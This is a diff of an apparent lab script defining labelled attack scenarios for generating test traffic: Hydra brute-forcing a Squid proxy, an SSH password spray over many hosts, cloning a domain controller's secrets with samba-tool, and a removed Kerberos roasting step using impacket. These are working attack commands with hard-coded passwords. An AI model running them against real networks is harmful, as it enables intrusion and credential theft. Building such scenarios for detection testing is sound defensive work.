@@ -31,8 +31,6 @@ scenario login-bruteforce+cleartext-credentials hydra_proxy
 hydra_proxy() { words; printf 'echo ERR' >"$dir/no"; printf 'auth_param basic program /usr/lib/squid/basic_ncsa_auth %s/sqp\nacl a proxy_auth REQUIRED\nhttp_access allow a\nhttp_port %s.1:3128\ncache deny all\ncache_log /dev/null\npid_filename %s/sq4.pid\ncoredump_dir %s\n' "$dir" $net "$dir" "$dir" >"$dir/sq4.conf"; echo "evelien:$(openssl passwd -apr1 Zomer2026)" >"$dir/sqp"; chmod 644 "$dir/sqp"; bg gw squid -N -f "$dir/sq4.conf"; sleep 3; A hydra -l evelien -P "$dir/secrets" -t 4 -s 3128 $net.1 http-proxy http://www.news.example/; }
 scenario login-spray,login-bruteforce,scan+executable-transfer ssh_worm
 ssh_worm() { sshd_on dc mail dev pc1 pc2 pc3; sleep 1; for w in admin123 ubnt raspberry Zomer2026; do for h in $lin $web $files $db $dc $mail $dev $net.51 $net.52 $net.53; do A sshpass -p $w ssh -o PreferredAuthentications=password $(key) evelien@$h "id; uname -a; cat /proc/cpuinfo | head -5"; done; done; }
-scenario kerberos-roasting roast_nopreauth
-roast_nopreauth() { printf 'svcsql\nsvcweb\nuser2\n' >"$dir/spns"; imp GetUserSPNs -no-preauth user7 -usersfile "$dir/spns" -dc-host $dc LAB.EXAMPLE/; }
 scenario credential-theft clone_dc
 clone_dc() { A samba-tool drs clone-dc-database lab.example --targetdir="$dir/clone" --include-secrets -U 'LAB\Administrator%Winter2026!' --server=$dc; }
 
